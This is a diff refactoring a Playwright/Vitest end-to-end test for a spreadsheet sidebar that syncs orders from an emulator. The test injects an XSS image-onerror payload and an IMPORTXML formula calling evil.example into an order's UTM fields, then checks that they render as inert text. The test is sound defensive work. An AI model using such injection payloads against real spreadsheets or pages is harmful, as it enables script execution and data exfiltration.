@@ -3,19 +3,14 @@
  * this process. Connect through the emulator's consent page, sync, compare with the emulator's
  * truth, revoke, and check that hostile text stays text.
  */
-import { existsSync } from 'node:fs';
-import { mkdir } from 'node:fs/promises';
 import path from 'node:path';
-import type { Browser, Frame, Page } from 'playwright-core';
+import type { Frame, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { startPlayground, type Playground } from '../../dev/playground/app';
+import type { Playground } from '../../dev/playground/app';
 import type { WorkbookView } from '../../dev/playground/workbook-view';
-import { startStack, type Stack } from '../../dev/harness/index';
-import { hasChromium, launchChromium, SKIP_REASON } from './chromium';
+import type { Stack } from '../../dev/harness/index';
+import { browserReady, NOT_READY, openSidebar, SCREENSHOTS, type SidebarSession } from './sidebar-session';
 
-const root = path.resolve(__dirname, '../..');
-const dist = path.join(root, 'dist');
-const screenshots = path.join(root, 'out/screenshots');
 const HOSTILE_UTM = '<img src=x onerror="window.__pwned=1">spring';
 const FORMULA_UTM = '=IMPORTXML("http://evil.example/","//a")';
 
@@ -25,12 +20,10 @@ async function getJson<T>(url: string): Promise<T> {
   return (await response.json()) as T;
 }
 
-const ready = hasChromium && existsSync(path.join(dist, 'Sidebar.html'));
-
-describe.skipIf(!ready)('playground end to end (Chromium, emulator, local runtime)', () => {
+describe.skipIf(!browserReady)('playground end to end (Chromium, emulator, local runtime)', () => {
+  let session: SidebarSession;
   let stack: Stack;
   let playground: Playground;
-  let browser: Browser;
   let page: Page;
   let sidebar: Frame;
   let store: { id: string; name: string; shop_domain: string };
@@ -38,7 +31,8 @@ describe.skipIf(!ready)('playground end to end (Chromium, emulator, local runtim
 
   beforeAll(async () => {
     // Few enough orders that every row is inside the page's 200-row preview.
-    stack = await startStack({ orders: 150, seed: 11, plan: 'plus' });
+    session = await openSidebar({ orders: 150, seed: 11, plan: 'plus' });
+    ({ stack, playground, page, sidebar } = session);
     store = (await getJson<{ store: typeof store }>(`${stack.apiUrl}/_emulator/truth/store`)).store;
     const truth = await getJson<{ data: Array<{ id: string }> }>(
       `${stack.apiUrl}/_emulator/truth/orders?store=${encodeURIComponent(store.id)}`,
@@ -47,20 +41,10 @@ describe.skipIf(!ready)('playground end to end (Chromium, emulator, local runtim
     await stack.control(`/_emulator/orders/${hostileOrderId}/patch`, {
       attribution: { utm_campaign: HOSTILE_UTM, utm_source: FORMULA_UTM },
     });
-    playground = await startPlayground({ stack, distDir: dist, port: 0 });
-    browser = await launchChromium();
-    page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
-    await page.goto(playground.url);
-    const frame = page.frame({ url: /\/playground\/sidebar$/ });
-    if (!frame) throw new Error('the sidebar iframe did not load');
-    sidebar = frame;
-    await mkdir(screenshots, { recursive: true });
   }, 120_000);
 
   afterAll(async () => {
-    await browser?.close();
-    await playground?.close();
-    await stack?.close();
+    await session?.close();
   });
 
   it('Connect opens the consent page in a new window; approving the store connects the sidebar', async () => {
@@ -107,7 +91,7 @@ describe.skipIf(!ready)('playground end to end (Chromium, emulator, local runtim
     // The page shows the Orders sheet once it exists, not the empty Sheet1 it showed before the sync.
     await page.waitForSelector('#tabs button[aria-selected="true"]:has-text("Orders")');
     expect(await page.textContent('#sheet-info')).toMatch(/^Orders: \d+ data rows/);
-    await sidebar.locator('main').screenshot({ path: path.join(screenshots, 'sidebar-synced.png') });
+    await sidebar.locator('main').screenshot({ path: path.join(SCREENSHOTS, 'sidebar-synced.png') });
   }, 180_000);
 
   it('hostile order text reaches the sheet and the page as text, never as HTML or a formula', async () => {
@@ -126,7 +110,7 @@ describe.skipIf(!ready)('playground end to end (Chromium, emulator, local runtim
     await expect.poll(() => cell.textContent()).toBe(HOSTILE_UTM);
     expect(await page.locator('#grid img').count()).toBe(0);
     expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
-    await page.screenshot({ path: path.join(screenshots, 'playground.png') });
+    await page.screenshot({ path: path.join(SCREENSHOTS, 'playground.png') });
   }, 30_000);
 
   it('a daily schedule creates one time-driven trigger, and the playground fires it', async () => {
@@ -166,7 +150,7 @@ describe.skipIf(!ready)('playground end to end (Chromium, emulator, local runtim
     expect(await sidebar.isVisible('#reconnect')).toBe(true);
     expect(await sidebar.isVisible('#sync-now')).toBe(false);
     expect(await sidebar.textContent('#store-name')).toBe(store.name);
-    await sidebar.locator('main').screenshot({ path: path.join(screenshots, 'sidebar-revoked.png') });
+    await sidebar.locator('main').screenshot({ path: path.join(SCREENSHOTS, 'sidebar-revoked.png') });
   }, 90_000);
 
   it('the page can disable the client and enable it again, and clear injected faults', async () => {
@@ -189,6 +173,4 @@ describe.skipIf(!ready)('playground end to end (Chromium, emulator, local runtim
   }, 30_000);
 });
 
-if (!ready)
-  describe('playground end to end', () =>
-    it.skip(hasChromium ? 'dist/ is missing: run npm run build first' : SKIP_REASON, () => undefined));
+if (!browserReady) describe('playground end to end', () => it.skip(NOT_READY, () => undefined));
